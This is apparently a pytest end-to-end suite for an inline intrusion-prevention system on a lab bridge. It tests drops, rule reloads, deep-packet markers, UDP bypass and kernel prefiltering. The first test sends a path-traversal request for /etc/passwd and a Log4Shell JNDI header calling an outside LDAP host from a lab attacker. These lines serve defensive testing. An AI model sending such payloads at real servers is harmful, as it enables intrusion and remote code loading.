"""End to end: the IPS inline on the lab bridge, with the shipped local rules (config/rules/local.rules)."""
from __future__ import annotations

import subprocess
import time
from pathlib import Path

import pytest

from lab.demo import curl
from lab.netns import Lab
from lab.agentrun import LabAgent
from tests.waiting import wait

pytestmark = pytest.mark.lab

# The office publishes pc1's web server to the internet (so attacks on it can be seen).
PUBLISH_PC1 = {
    "engines.firewall.rules": [
        {"name": "publish office web server", "from": "wan", "to": "lan", "dst": "192.0.2.11", "service": "tcp/80", "action": "allow"},
    ]
}


def attack(lab: Lab, path: str, *headers: str) -> subprocess.CompletedProcess[str]:
    argv = ["curl", "-sS", "--path-as-is", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "3"]
    for h in headers:
        argv += ["-H", h]
    return lab.exec("atk", [*argv, f"http://{lab.hosts['pc1'].ipv4}{path}"])


def alert(agent: LabAgent, sid: int, timeout: float = 5.0) -> dict | None:
    return agent.wait_alarm(lambda r: r.get("event_type") == "alert" and r["alert"]["signature_id"] == sid, timeout)


@pytest.mark.parametrize("agent", [PUBLISH_PC1], indirect=True)
def test_exploit_from_internet_is_dropped_and_normal_requests_work(office: Lab, agent: LabAgent):
    assert attack(office, "/").stdout == "200"  # the published server answers normal requests
    res = attack(office, "/cgi-bin/../../../../etc/passwd")
    assert res.returncode != 0 and res.stdout != "200"  # the attacker's connection is cut
    rec = alert(agent, 9200001)
    assert rec is not None, "no EVE alert for the path traversal"
    assert rec["alert"]["action"] == "blocked" and rec["src_ip"] == office.hosts["atk"].ipv4
    assert rec["http"]["url"] == "/cgi-bin/../../../../etc/passwd"
    drop = agent.wait_alarm(lambda r: r.get("event_type") == "drop" and r["drop"].get("signature_id") == 9200001)
    assert drop is not None and drop["dest_ip"] == office.hosts["pc1"].ipv4
    res = attack(office, "/", "X-Api-Version: ${jndi:ldap://203.0.113.66/a}")
    assert res.returncode != 0
    assert alert(agent, 9200002) is not None
    assert attack(office, "/index.html").stdout == "200"  # later, normal requests still work
    assert curl(office, "pc2", f"http://{office.hosts['web'].ipv4}/")[0]


def test_dns_query_for_listed_domain_alerts(office: Lab, agent: LabAgent):
    office.exec("pc1", ["dig", "@198.51.100.53", "+tries=1", "+time=1", "www.malware.example", "A"])
    rec = alert(agent, 9200010)
    assert rec is not None
    assert rec["src_ip"] == office.hosts["pc1"].ipv4 and rec["dest_port"] == 53
    assert rec["dns"]["queries"] == ["www.malware.example"]
    assert rec["alert"]["action"] == "allowed"
    office.exec("pc1", ["dig", "@198.51.100.53", "+tries=1", "+time=1", "www.example.org", "A"])
    time.sleep(1)
    assert sum(1 for r in agent.alarms() if r.get("alert", {}).get("signature_id") == 9200010) == 1


def test_rule_reload_during_bulk_transfer_loses_no_connection(office: Lab, tmp_path: Path):
    rules = tmp_path / "reload.rules"
    rules.write_text(Path(__file__).resolve().parents[2].joinpath("config/rules/local.rules").read_text())
    a = LabAgent(office, tmp_path / "agent", overrides={"engines.ips.rule_files": [str(rules)]})
    a.bridge_up()
    iperf_server = office.popen("web", ["iperf3", "-s"], name="iperf3-s")
    try:
        a.start()
        assert office.wait_tcp("pc1", office.hosts["web"].ipv4, 5201, 5)
        client = subprocess.Popen(
            ["ip", "netns", "exec", office.netns("pc1"), "iperf3", "-c", office.hosts["web"].ipv4, "-t", "8", "-P", "2"],
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
        )
        time.sleep(2)
        with rules.open("a") as fh:
            fh.write('alert http $HOME_NET any -> any any (msg:"VCR TEST reload canary"; http.uri; content:"/reload-canary"; sid:9209999; rev:1;)\n')
        res = a.cli("reload")
        assert res.returncode == 0, res.stderr
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and (a.status() or {}).get("reloads", {}).get("workers_reloaded", 0) < 2:
            time.sleep(0.3)
        assert a.status()["reloads"]["workers_reloaded"] == 2
        out, _ = client.communicate(timeout=60)
        assert client.returncode == 0, out  # the transfer survived the reload
        assert "receiver" in out
        assert curl(office, "pc1", f"http://{office.hosts['web'].ipv4}/reload-canary")[0] is False  # 404 from the server
        assert alert(a, 9209999) is not None  # the new rule is live without a restart
    finally:
        iperf_server.kill()
        a.kill()
        a.bridge_down()


def test_content_deep_in_a_download_is_found_in_whole_gso_packets(office: Lab, tmp_path: Path):
    """Big TCP packets reach the IPS whole (agent/dataplane/nfq.py: GSO on, 64 KiB copy range): markers in a
    download, inside packets far larger than the MTU, raise their alerts once."""
    rules = tmp_path / "deep.rules"
    rules.write_text('alert http any any -> $HOME_NET any (msg:"VCR TEST deep marker"; flow:established,to_client; '
                     'file.data; content:"VCR-DEEP-MARKER-7f3a"; sid:9209998; rev:1;)\n'
                     'alert tcp any any -> $HOME_NET any (msg:"VCR TEST deep stream marker"; flow:established,to_client; '
                     'content:"VCR-STREAM-MARKER-51c2"; sid:9209997; rev:1;)\n')
    body = bytearray(b"0123456789abcdef" * (600_000 // 16))
    body[70_000:70_020] = b"VCR-DEEP-MARKER-7f3a"  # inside the response-body limit (100 KiB, as Suricata)
    body[650:672] = b"VCR-STREAM-MARKER-51c2"[:22]
    office.start_http_server("web", 8088, body=bytes(body))
    a = LabAgent(office, tmp_path / "agent", overrides={"engines.ips.rule_files": [str(rules)]})
    a.bridge_up()
    try:
        a.start()
        # each worker reports the kernel's answer with its stats
        wait(lambda: all(w.get("queue_settings") == "taken" for w in (a.status() or {}).get("workers", {"": {}}).values()),
             15, "both workers' queue settings taken", 0.3)
        got = office.exec("pc1", ["curl", "-sS", "-o", "/dev/null", "-w", "%{size_download}", f"http://{office.hosts['web'].ipv4}:8088/"])
        assert got.stdout == str(len(body))
        rec = alert(a, 9209998)
        assert rec is not None, "the marker 70 KB into the download was not found"
        assert alert(a, 9209997) is not None
        assert a.wait_counter("worker", "large_packets", 1) > 0  # packets above the MTU came to the IPS whole
        time.sleep(1)
        assert sum(1 for r in a.alarms() if r.get("alert", {}).get("signature_id") == 9209998) == 1
    finally:
        a.kill()
        a.bridge_down()


# pc1 sends COUNT datagrams to (host, port), one every 2 ms, then LAST
UDP_SENDER = """
import socket, sys, time
host, port, count, last = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4].encode()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(count):
    s.sendto(b"benign datagram %05d" % i, (host, port))
    time.sleep(0.002)
s.sendto(last, (host, port))
"""


def test_a_udp_flow_no_rule_can_match_leaves_python_and_an_attack_on_a_rule_port_is_caught(office: Lab, tmp_path: Path):
    """engines.ips.unmatchable_flows: bypass, with every engine of the shipped config on: the IPS,
    the web filter and ATP all let a UDP flow go once its app protocol is known (none) and no rule
    fits it; the kernel carries the rest. A flow to a port a rule fits is inspected to its attack."""
    import sys

    rules = tmp_path / "udp.rules"
    rules.write_text('alert udp $HOME_NET any -> any 6000 (msg:"VCR TEST udp attack"; content:"VCR-UDP-ATTACK-3b9e"; '
                     'sid:9209996; rev:1;)\n')
    a = LabAgent(office, tmp_path / "agent", overrides={"engines.ips.rule_files": [str(rules)]})
    a.bridge_up()
    try:
        a.start()
        web = office.hosts["web"].ipv4
        before = a.counter("pipeline", "packets")
        office.exec("pc1", [sys.executable, "-c", UDP_SENDER, web, "5201", "300", "VCR-UDP-ATTACK-3b9e"])
        # at least this flow (a datagram still queued when the kernel took over, handled well after
        # the decision on a loaded machine, is decided afresh: the pipeline's "flows.redecided")
        assert a.wait_counter("ips", "flows.bypassed_unmatchable", 1) >= 1
        time.sleep(1)  # status.json is written about once a second
        seen = a.counter("pipeline", "packets") - before
        assert 0 < seen < 30, f"{seen} of 301 datagrams reached Python"  # the first, and any queued before the connmark
        # (the attack string on port 5201 fits no rule: nothing to alert on, in Suricata neither)
        before = a.counter("pipeline", "packets")
        office.exec("pc1", [sys.executable, "-c", UDP_SENDER, web, "6000", "300", "VCR-UDP-ATTACK-3b9e"])
        rec = alert(a, 9209996)
        assert rec is not None, "the attack on the port a rule fits was not seen"
        assert rec["dest_port"] == 6000 and rec["src_ip"] == office.hosts["pc1"].ipv4
        assert a.wait_counter("pipeline", "packets", before + 301) >= before + 301  # every datagram inspected
    finally:
        a.kill()
        a.bridge_down()


# web echoes every datagram to its sender (a UDP service both ways)
UDP_ECHO = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", int(sys.argv[1])))
while True:
    data, peer = s.recvfrom(65535)
    s.sendto(data, peer)
"""
# pc1 sends COUNT datagrams to (host, port) from one socket, one every 2 ms, then LAST; reads the echoes
UDP_PINGER = """
import socket, sys, time
host, port, count, last = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4].encode()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.2)
for i in range(count):
    s.sendto(b"benign datagram %05d" % i, (host, port))
    try:
        s.recv(2048)
    except OSError:
        pass
    time.sleep(0.002)
s.sendto(last, (host, port))
s.recv(2048)
"""
KPF_RULES = (
    # ET Open's sid 2100498 (GPL ATTACK_RESPONSE id check returned root): every flow fits it
    'alert ip any any -> any any (msg:"VCR TEST id check returned root"; content:"uid=0|28|root|29|"; sid:9209980; rev:1;)\n'
    'alert udp any any -> any 7000 (msg:"VCR TEST udp established"; flow:established,to_server; content:"VCR-KPF-EST"; '
    'sid:9209981; rev:1;)\n'
    'alert icmp any any -> any any (msg:"VCR TEST ping pattern"; itype:8; content:"VCRPING"; sid:9209982; rev:1;)\n'
)


def _settled(a: LabAgent, section: str, key: str) -> int:
    """A counter once both workers have sent it twice without a change (every 2 s each)."""
    last, since = a.counter(section, key), time.monotonic()
    while time.monotonic() - since < 4.5:
        time.sleep(0.5)
        now = a.counter(section, key)
        if now != last:
            last, since = now, time.monotonic()
    return last


def test_the_kernel_prefilter_keeps_datagrams_and_pings_without_a_pattern(office: Lab, tmp_path: Path):
    """engines.ips.kernel_prefilter: on. Every rule that fits the UDP flow and the ping has a fast
    pattern: once both directions were seen, the flow's packets holding none of them stay in the
    kernel; a datagram or an echo holding one is still queued and alerted on, as established."""
    import sys

    rules = tmp_path / "kpf.rules"
    rules.write_text(KPF_RULES)
    a = LabAgent(office, tmp_path / "agent", overrides={"engines.ips.rule_files": [str(rules)]})
    a.bridge_up()
    try:
        a.start()
        web = office.hosts["web"].ipv4
        office.popen("web", [sys.executable, "-c", UDP_ECHO, "7000"], name="udp-echo")
        time.sleep(0.5)
        before = a.counter("pipeline", "packets")
        office.exec("pc1", [sys.executable, "-c", UDP_PINGER, web, "7000", "300", "x uid=0(root) VCR-KPF-EST"])
        rec = alert(a, 9209980)
        assert rec is not None, "the datagram with the pattern was not inspected"
        assert alert(a, 9209981) is not None, "flow:established did not hold on the queued datagram"
        assert a.wait_counter("prefilter", "marked", 1) >= 1
        time.sleep(2.5)  # the workers send their counters every 2 s
        seen = a.counter("pipeline", "packets") - before
        assert 0 < seen < 150, f"{seen} of 602 datagrams reached Python"  # before the chain was installed, and the hits
        assert a.counter("pipeline", "flows.prefiltered") >= 1
        # ping: 60 echoes and their replies without a pattern, then echoes that carry one
        before = _settled(a, "pipeline", "packets")
        office.exec("pc1", ["ping", "-c", "60", "-i", "0.01", "-W", "1", web])
        seen = _settled(a, "pipeline", "packets") - before
        assert 0 < seen < 80, f"{seen} of 120 pings reached Python"
        hex_pattern = b"VCRPING".hex()
        office.exec("pc1", ["ping", "-c", "3", "-i", "0.01", "-W", "1", "-p", hex_pattern, web])
        assert alert(a, 9209982) is not None, "the echo with the pattern was not inspected"
        st = a.status() or {}
        assert st["counters"]["prefilter"]["install_failures"] == 0
    finally:
        a.kill()
        a.bridge_down()


HS_RULES = (
    'alert tcp any any -> any 80 (msg:"VCR TEST request"; flow:established,to_server; content:"GET /hs-probe"; '
    'sid:9209970; rev:1;)\n'
    'alert tcp any 80 -> any any (msg:"VCR TEST response"; flow:established,to_client; content:"HTTP/1."; '
    'sid:9209971; rev:1;)\n'
)
HS_SYNACK_RULE = 'alert tcp any 80 -> $HOME_NET any (msg:"VCR TEST syn-ack"; flags:SA; sid:9209972; rev:1;)\n'


def test_the_kernel_keeps_the_synack_no_rule_needs(office: Lab, tmp_path: Path):
    """The handshake skip: with no rule that could match a connection's SYN+ACK, the SYN passes
    with MARK_HS and the SYN+ACK stays in the kernel (one packet per connection less reaches
    Python); the request and the response are still inspected as established. With a rule on
    the SYN+ACK of port 80, every SYN+ACK reaches Python again and that rule alerts."""
    web = office.hosts["web"].ipv4
    per_conn = {}
    for extra in ("", HS_SYNACK_RULE):
        rules = tmp_path / f"hs{len(extra)}.rules"
        rules.write_text(HS_RULES + extra)
        a = LabAgent(office, tmp_path / f"agent{len(extra)}", overrides={"engines.ips.rule_files": [str(rules)]})
        a.bridge_up()
        try:
            a.start()
            assert curl(office, "pc1", f"http://{web}/")[0]  # the first: the path is up
            before = _settled(a, "pipeline", "packets")
            skipped = _settled(a, "pipeline", "flows.handshake_skipped")
            assert skipped == (0 if extra else 1)
            for _ in range(10):
                curl(office, "pc1", f"http://{web}/hs-probe")
            assert alert(a, 9209970) is not None, "the request was not inspected as established"
            assert alert(a, 9209971) is not None, "the response was not inspected as established"
            if extra:
                assert alert(a, 9209972) is not None, "the SYN+ACK did not reach the IPS"
            assert _settled(a, "pipeline", "flows.handshake_skipped") - skipped == (0 if extra else 10)
            # the kernel's SYN+ACK line accepted the skipped connections' SYN+ACKs (iptables counters)
            assert synacks_kept(office) == (0 if extra else 11)
            per_conn[bool(extra)] = (_settled(a, "pipeline", "packets") - before) / 10
        finally:
            a.kill()
            a.bridge_down()
    assert per_conn[True] > per_conn[False], per_conn


def synacks_kept(lab: Lab) -> int:
    """Packets the handshake skip's SYN+ACK line of VCR-FWD accepted."""
    out = lab.exec("utm", ["iptables", "-w", "-nvxL", "VCR-FWD"]).stdout
    return sum(int(line.split()[0]) for line in out.splitlines() if "flags:0x17/0x12" in line and "ACCEPT" in line)
